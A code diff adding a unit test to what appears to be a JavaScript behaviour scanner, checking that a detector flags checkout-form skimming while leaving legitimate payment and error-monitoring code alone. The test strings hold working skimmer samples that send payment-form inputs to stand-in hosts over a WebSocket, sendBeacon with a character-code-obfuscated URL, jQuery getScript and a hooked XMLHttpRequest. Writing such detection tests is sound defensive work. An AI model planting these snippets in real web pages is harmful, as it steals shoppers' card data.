@@ -201,6 +201,64 @@ TEST(BehaviourJs, AScriptTagWrittenAsMarkupIsAScriptLoad) {
   EXPECT_TRUE(Js("el.innerHTML = '<script>var a = 1;</scr' + 'ipt>';").empty());
 }
 
+TEST(BehaviourJs, FormsReadAndSentToAHiddenOrUnknownHost) {
+  auto exfil = [](std::string_view src) {
+    for (const CodeTrait& c : Js(src))
+      if (c.id == "js.card_exfil") return true;
+    return false;
+  };
+  // The payment step's form, whatever its fields are called, over a WebSocket.
+  EXPECT_TRUE(
+      exfil("var s = new WebSocket('wss://stats.example:8443/ws');"
+            "document.querySelector('#payment-form').addEventListener('change',"
+            "function(e){ s.send(e.target.name + '=' + e.target.value); });"));
+  // Every input, to a URL the code spells in character codes (folded by Normalize).
+  auto n = Normalize(
+      "var u = String.fromCharCode(104,116,116,112,115,58,47,47,99,46,101,120,97,109,112,108,"
+      "101,47,99);var f = document.querySelectorAll('input');var d='';"
+      "for (var i = 0; i < f.length; i++) d += f[i].value;navigator.sendBeacon(u, d);",
+      CodeKind::kJs);
+  bool folded = false;
+  for (const CodeTrait& c : n.traits) folded |= c.id == "js.card_exfil";
+  EXPECT_TRUE(folded);
+  // jQuery: the inputs of a form on the checkout button's click, sent as a script's query.
+  EXPECT_TRUE(
+      exfil("jQuery(document).on('click', '.action.checkout', function () {"
+            "var o = []; jQuery('form input, form select').each(function () {"
+            "o.push(jQuery(this).val()); });"
+            "jQuery.getScript('https://stat.example/s.js?d=' + btoa(o.join('|'))); });"));
+  // The checkout's own requests copied by a hooked XMLHttpRequest.
+  EXPECT_TRUE(exfil(
+      "XMLHttpRequest.prototype._s = XMLHttpRequest.prototype.send;"
+      "XMLHttpRequest.prototype.send = function (b) {"
+      "if (/checkout|payment/.test(location.href)) new Image().src ="
+      " 'https://img.example/p.gif?d=' + btoa(b); return this._s.apply(this, arguments); };"));
+  // An error monitor wrapping fetch and reporting to a known provider is not it.
+  EXPECT_FALSE(
+      exfil("var f = window.fetch; window.fetch = function () { return f.apply(this,"
+            " arguments).catch(function (e) { navigator.sendBeacon("
+            "'https://o1.ingest.sentry.io/api/1/store/', String(e)); }); };"
+            "if (location.pathname.indexOf('checkout') >= 0) init();"));
+  // The store's checkout bundle: its payment form, its own JSON calls, an SVG namespace.
+  EXPECT_FALSE(
+      exfil("var ns = 'http://www.w3.org/2000/svg', api = 'https://cdn.shop.example/x';"
+            "var f = document.querySelector('#co-payment-form');"
+            "var x = new XMLHttpRequest(); x.open('POST', '/rest/V1/carts/mine');"
+            "x.send(JSON.stringify({method: f.elements.method.value}));"));
+  // The store's own payment form posted to its own endpoint, or to a known provider.
+  EXPECT_FALSE(
+      exfil("$('#payment-form').on('submit', function(){ $.post('/checkout/pay', "
+            "$(this).serialize()); });"));
+  EXPECT_FALSE(
+      exfil("var f = document.querySelector('#payment-form');"
+            "fetch('https://api.stripe.com/v1/tokens', {method: 'POST', body: "
+            "new FormData(f)});"));
+  // A contact form's inputs sent to a URL written in plain text is not hidden.
+  EXPECT_FALSE(
+      exfil("var f = document.querySelectorAll('input');"
+            "navigator.sendBeacon('https://forms.example/c', f[0].value);"));
+}
+
 TEST(BehaviourJs, CodeRunFromAFetchedImage) {
   auto has = [](const std::vector<CodeTrait>& out) {
     for (const CodeTrait& c : out)
